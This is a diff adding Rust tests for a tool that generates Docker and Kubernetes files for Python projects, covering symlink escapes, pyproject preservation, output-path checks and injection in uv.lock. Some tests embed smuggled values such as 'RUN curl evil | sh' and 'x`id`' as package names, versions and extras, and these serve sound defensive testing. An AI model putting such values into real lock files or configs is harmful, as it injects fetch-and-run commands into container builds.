@@ -959,3 +959,443 @@ fn rejects_an_image_with_a_dollar() {
         "is not a valid image reference",
     );
 }
+
+// ---------------------------------------------------------------------------------------------
+// Writes stay inside the project: no symbolic link, planted or committed, leads a write out.
+
+#[cfg(unix)]
+#[test]
+fn a_symlinked_k8s_dir_pointing_outside_the_project_is_refused() {
+    let outside = Project::empty();
+    let project = Project::fresh_example("cli-hello");
+    std::os::unix::fs::symlink(outside.root(), project.path("k8s")).unwrap();
+    for args in [&["init"][..], &["init", "--force"]] {
+        let output = project.run_rejected(args);
+        assert!(
+            output.stderr.contains("`k8s` is a symbolic link to")
+                && output.stderr.contains("outside the project"),
+            "{}",
+            output.report()
+        );
+        assert!(
+            outside.files().is_empty(),
+            "written outside: {:?}",
+            outside.files()
+        );
+        assert!(!project.exists("Dockerfile"));
+    }
+}
+
+#[cfg(unix)]
+#[test]
+fn a_symlinked_output_file_is_never_written_through() {
+    let outside = Project::empty();
+    outside.write("victim", "precious\n");
+    let project = Project::fresh_example("cli-hello");
+    std::os::unix::fs::symlink(outside.path("victim"), project.path("Dockerfile")).unwrap();
+    // Also a link that stays inside the project: an output is a file of its own.
+    project.write("elsewhere/compose.yaml", "mine\n");
+    let output = project.run_rejected(&["init", "--force"]);
+    assert!(
+        output
+            .stderr
+            .contains("refusing to write `Dockerfile`: it is a symbolic link"),
+        "{}",
+        output.report()
+    );
+    assert_eq!(outside.read("victim"), "precious\n");
+    std::fs::remove_file(project.path("Dockerfile")).unwrap();
+    std::os::unix::fs::symlink("elsewhere/compose.yaml", project.path("compose.yaml")).unwrap();
+    let output = project.run_rejected(&["init", "--force"]);
+    assert!(
+        output
+            .stderr
+            .contains("refusing to write `compose.yaml`: it is a symbolic link"),
+        "{}",
+        output.report()
+    );
+    assert_eq!(project.read("elsewhere/compose.yaml"), "mine\n");
+}
+
+#[cfg(unix)]
+#[test]
+fn a_symlinked_pyproject_inside_the_project_is_written_through_its_target() {
+    let project = Project::fresh_example("cli-hello");
+    let text = project.read("pyproject.toml");
+    project.write("config/pyproject.toml", &text);
+    project.remove("pyproject.toml");
+    std::os::unix::fs::symlink("config/pyproject.toml", project.path("pyproject.toml")).unwrap();
+    let output = project.run(&["init"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+    let link = std::fs::symlink_metadata(project.path("pyproject.toml")).unwrap();
+    assert!(
+        link.file_type().is_symlink(),
+        "the link was replaced by a file"
+    );
+    let written = project.read("config/pyproject.toml");
+    assert!(
+        written.starts_with(&text) && written.contains("[tool.uv-rootless]"),
+        "{written}"
+    );
+}
+
+#[cfg(unix)]
+#[test]
+fn a_symlinked_pyproject_outside_the_project_is_refused() {
+    let outside = Project::empty();
+    let project = Project::fresh_example("cli-hello");
+    let text = project.read("pyproject.toml");
+    outside.write("pyproject.toml", &text);
+    project.remove("pyproject.toml");
+    std::os::unix::fs::symlink(
+        outside.path("pyproject.toml"),
+        project.path("pyproject.toml"),
+    )
+    .unwrap();
+    let output = project.run_rejected(&["init"]);
+    assert!(
+        output.stderr.contains("refusing to write `pyproject.toml`")
+            && output.stderr.contains("outside the project"),
+        "{}",
+        output.report()
+    );
+    assert_eq!(outside.read("pyproject.toml"), text);
+    let link = std::fs::symlink_metadata(project.path("pyproject.toml")).unwrap();
+    assert!(link.file_type().is_symlink());
+}
+
+/// A link planted at every temporary name a run could have used with a predictable scheme
+/// (the name and the next few hundred process ids) must not be followed.
+#[cfg(unix)]
+#[test]
+fn a_symlink_planted_at_a_guessable_temporary_name_redirects_nothing() {
+    let outside = Project::empty();
+    let project = Project::fresh_example("cli-hello");
+    let mut next = std::process::Command::new("true").spawn().unwrap();
+    let pid = next.id();
+    next.wait().unwrap();
+    for guess in pid..pid + 400 {
+        for name in [
+            "Dockerfile",
+            "compose.yaml",
+            ".dockerignore",
+            "pyproject.toml",
+        ] {
+            std::os::unix::fs::symlink(
+                outside.path(&format!("{name}-{guess}")),
+                project.path(&format!(".{name}.uv-rootless-{guess}.tmp")),
+            )
+            .unwrap();
+        }
+    }
+    let output = project.run(&["init"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+    assert!(
+        outside.files().is_empty(),
+        "written outside: {:?}",
+        outside.files().keys()
+    );
+    for name in [
+        "Dockerfile",
+        "compose.yaml",
+        ".dockerignore",
+        "pyproject.toml",
+    ] {
+        let meta = std::fs::symlink_metadata(project.path(name)).unwrap();
+        assert!(meta.is_file(), "{name} is not a plain file");
+    }
+}
+
+/// `--force` over an output that is a directory: the run fails on it, and the outputs before
+/// it must not have been replaced already.
+#[test]
+fn a_target_that_cannot_be_replaced_changes_no_other_file() {
+    let project = Project::example("cli-hello");
+    project.replace("Dockerfile", "USER 65532:65532\n", "USER 1:1\n");
+    project.replace("compose.yaml", "read_only: true", "read_only: false");
+    project.remove("k8s/manifest.yaml");
+    project.write("k8s/manifest.yaml/keep", "a directory in the way\n");
+    let before = project.files_with_mtimes();
+    let output = project.run_rejected(&["generate", "--force"]);
+    common::assert_same_files(&before, &project.files_with_mtimes(), &"generate --force");
+    assert!(
+        output.stderr.contains("k8s/manifest.yaml"),
+        "{}",
+        output.report()
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// `init` edits `[tool.uv-rootless]` only: the rest of pyproject.toml keeps every byte.
+
+/// cli-hello before `init`, its pyproject.toml passed through `shape`; returns the text
+/// written and what `init` made of it.
+fn init_pyproject(shape: impl FnOnce(&str) -> String) -> (String, String) {
+    let project = Project::fresh_example("cli-hello");
+    let text = shape(&project.read("pyproject.toml"));
+    project.write("pyproject.toml", &text);
+    let output = project.run(&["init"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+    let check = project.run(&["check"]);
+    assert_eq!(check.code, 0, "{}", check.report());
+    (text, project.read("pyproject.toml"))
+}
+
+const RECORDED: &str =
+    "# Base image family: \"python-slim\" or \"azurelinux\".\nbase = \"python-slim\"\n";
+
+#[test]
+fn init_keeps_crlf_line_endings_of_pyproject() {
+    let (before, after) = init_pyproject(|text| text.replace('\n', "\r\n"));
+    assert!(after.starts_with(&before), "{after:?}");
+    let added = &after[before.len()..];
+    assert_eq!(
+        added,
+        format!("\n[tool.uv-rootless]\n{RECORDED}").replace('\n', "\r\n")
+    );
+}
+
+#[test]
+fn init_keeps_a_byte_order_mark_of_pyproject() {
+    let (before, after) = init_pyproject(|text| format!("\u{feff}{text}"));
+    assert!(after.starts_with(&before), "{after:?}");
+}
+
+#[test]
+fn init_keeps_a_missing_final_newline_of_pyproject() {
+    let (before, after) = init_pyproject(|text| text.trim_end().to_string());
+    assert!(after.starts_with(&before), "{after:?}");
+    assert!(!after.ends_with('\n'), "{after:?}");
+    assert_eq!(
+        &after[before.len()..],
+        format!("\n\n[tool.uv-rootless]\n{}", RECORDED.trim_end())
+    );
+}
+
+#[test]
+fn init_keeps_the_quoting_of_a_value_it_does_not_change() {
+    let (before, after) = init_pyproject(|text| {
+        format!("{text}\n[tool.uv-rootless]\nbase = 'python-slim'  # mine\n")
+    });
+    assert_eq!(after, before);
+}
+
+// ---------------------------------------------------------------------------------------------
+// Output paths: each is also a line of `.dockerignore`, and none may replace an input.
+
+fn rejected_output_path(key: &str, value: &str, expected: &str) {
+    let project = Project::fresh_example("cli-hello");
+    project.edit("pyproject.toml", |text| {
+        format!(
+            "{text}\n[tool.uv-rootless]\n{key} = {}\n",
+            toml_string(value)
+        )
+    });
+    for args in [&["init"][..], &["init", "--force"]] {
+        let output = project.run_rejected(args);
+        assert!(
+            output.stderr.contains(expected),
+            "{key} = {value:?}: expected {expected:?} in\n{}",
+            output.stderr
+        );
+    }
+}
+
+#[test]
+fn rejects_an_output_path_that_negates_a_dockerignore_exclusion() {
+    rejected_output_path("dockerfile", "!.env", "cannot quote safely");
+}
+
+#[test]
+fn rejects_an_output_path_with_unicode_whitespace_at_an_end() {
+    rejected_output_path("compose", "compose.yaml\u{a0}", "cannot quote safely");
+    rejected_output_path("compose", "\u{2003}compose.yaml", "cannot quote safely");
+}
+
+#[test]
+fn rejects_an_output_path_on_a_member_manifest() {
+    rejected_output_path(
+        "kubernetes",
+        "packages/api/pyproject.toml",
+        "would overwrite one of the project's own files",
+    );
+}
+
+#[test]
+fn rejects_an_output_path_on_an_input_in_another_case() {
+    rejected_output_path(
+        "dockerfile",
+        "UV.lock",
+        "would overwrite one of the project's own files",
+    );
+}
+
+#[test]
+fn rejects_an_output_path_docker_reads_as_an_ignore_file() {
+    rejected_output_path(
+        "compose",
+        "Dockerfile.dockerignore",
+        "would overwrite one of the project's own files",
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Every name and version in uv.lock is checked when the lock is read, installed or not.
+
+/// cli-hello with `extra` appended to its lock, and `edge` added to cli-hello's dependencies.
+fn edited_lock(edge: &str, extra: &str) -> Project {
+    let project = Project::fresh_example("cli-hello");
+    project.replace(
+        "uv.lock",
+        "dependencies = [\n    { name = \"click\" },\n]\n",
+        &format!("dependencies = [\n    {{ name = \"click\" }},\n    {edge},\n]\n"),
+    );
+    if !extra.is_empty() {
+        project.edit("uv.lock", |text| format!("{text}{extra}"));
+    }
+    project
+}
+
+fn assert_lock_rejected(project: &Project, expected: &str) {
+    let output = project.run_rejected(&["init"]);
+    assert!(
+        output.stderr.contains(expected) && output.stderr.contains("run `uv lock`"),
+        "expected {expected:?} in\n{}",
+        output.stderr
+    );
+    for file in OUTPUTS {
+        assert!(!project.exists(file), "{file} was written");
+    }
+}
+
+/// A git package only Windows installs: no install check looks at it, but "git for `NAME`"
+/// went into a Dockerfile comment, where the newline started a `run` instruction.
+#[test]
+fn a_lock_package_name_with_a_newline_never_reaches_the_dockerfile() {
+    let project = edited_lock(
+        r#"{ name = "evil\nRUN curl evil | sh", marker = "sys_platform == 'win32'" }"#,
+        "\n[[package]]\nname = \"evil\\nRUN curl evil | sh\"\nversion = \"1.0\"\nsource = { git = \"https://example.com/evil.git#abc\" }\n",
+    );
+    assert_lock_rejected(
+        &project,
+        "`uv.lock` has an invalid name in `dependencies[].name` of package `cli-hello`",
+    );
+}
+
+#[test]
+fn a_lock_version_with_a_newline_is_rejected() {
+    let project = edited_lock(
+        r#"{ name = "evil", marker = "sys_platform == 'win32'" }"#,
+        "\n[[package]]\nname = \"evil\"\nversion = \"1.0\\nRUN curl evil | sh\"\nsource = { git = \"https://example.com/evil.git#abc\" }\n",
+    );
+    assert_lock_rejected(
+        &project,
+        "`uv.lock` has an invalid version in `version` of package `evil`",
+    );
+}
+
+#[test]
+fn a_lock_extra_name_with_a_backtick_is_rejected() {
+    let project = edited_lock(r#"{ name = "click", extra = ["x`id`"] }"#, "");
+    assert_lock_rejected(&project, "`dependencies[].extra` of package `cli-hello`");
+}
+
+// ---------------------------------------------------------------------------------------------
+// `extras` go into `RUN uv sync --extra NAME`.
+
+#[test]
+fn rejects_an_extra_that_is_not_a_name_even_when_defined() {
+    let project = Project::fresh_example("cli-hello");
+    project.edit("pyproject.toml", |text| {
+        text.replace(
+            "[project.scripts]",
+            "[project.optional-dependencies]\n\"x; curl evil | sh\" = []\n\n[project.scripts]",
+        ) + "\n[tool.uv-rootless]\nextras = [\"x; curl evil | sh\"]\n"
+    });
+    let output = project.run_rejected(&["init"]);
+    assert!(
+        output.stderr.contains("`extras` in `[tool.uv-rootless]` has \"x; curl evil | sh\", which is not an extra name"),
+        "{}",
+        output.report()
+    );
+    assert!(!project.exists("Dockerfile"));
+}
+
+// ---------------------------------------------------------------------------------------------
+// pep508_rs panics on some markers (`'linux' ~= sys_platform`): an error, never exit 101.
+
+fn assert_marker_rejected(project: &Project, expected: &str) {
+    for command in ["check", "init", "explain"] {
+        let output = project.run_rejected(&[command]);
+        assert!(
+            !output.stderr.contains("panicked") && output.stderr.contains(expected),
+            "{command}: expected {expected:?} in\n{}",
+            output.report()
+        );
+    }
+}
+
+#[test]
+fn a_string_compared_with_tilde_equal_in_dependencies_is_an_error_not_a_panic() {
+    let project = Project::fresh_example("cli-hello");
+    project.replace(
+        "pyproject.toml",
+        "\"click>=8.1\"",
+        "\"click>=8.1; 'linux' ~= sys_platform\"",
+    );
+    assert_marker_rejected(&project, "a marker compares a string with `~=`");
+}
+
+#[test]
+fn a_string_compared_with_tilde_equal_in_a_lock_marker_is_an_error_not_a_panic() {
+    let project = edited_lock(
+        r#"{ name = "colorama", marker = "'linux' ~= sys_platform" }"#,
+        "",
+    );
+    assert_marker_rejected(
+        &project,
+        "`uv.lock` has an invalid marker in `dependencies[].marker` of package `cli-hello`",
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Ids and ports the container could not use.
+
+#[test]
+fn rejects_a_uid_or_gid_above_what_kubernetes_accepts() {
+    let project = Project::fresh_example("cli-hello");
+    for args in [
+        &["init", "--uid", "2147483648"][..],
+        &["init", "--uid", "4294967295"],
+        &["init", "--gid", "4294967295"],
+    ] {
+        let output = project.run_rejected(args);
+        assert!(
+            output
+                .stderr
+                .contains("above 2147483647, the largest id Kubernetes accepts"),
+            "{args:?}: {}",
+            output.report()
+        );
+    }
+    let output = project.run(&["init", "--uid", "2147483647"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+}
+
+#[test]
+fn rejects_a_web_port_below_1024_with_capabilities_dropped() {
+    let project = Project::fresh_example("fastapi-service");
+    for args in [&["init", "--port", "80"][..], &["init", "--port", "1023"]] {
+        let output = project.run_rejected(args);
+        assert!(
+            output
+                .stderr
+                .contains("which a non-root process with no capabilities cannot bind")
+                && output.stderr.contains("port of 1024 or above"),
+            "{args:?}: {}",
+            output.report()
+        );
+    }
+    let output = project.run(&["init", "--port", "1024"]);
+    assert_eq!(output.code, 0, "{}", output.report());
+}
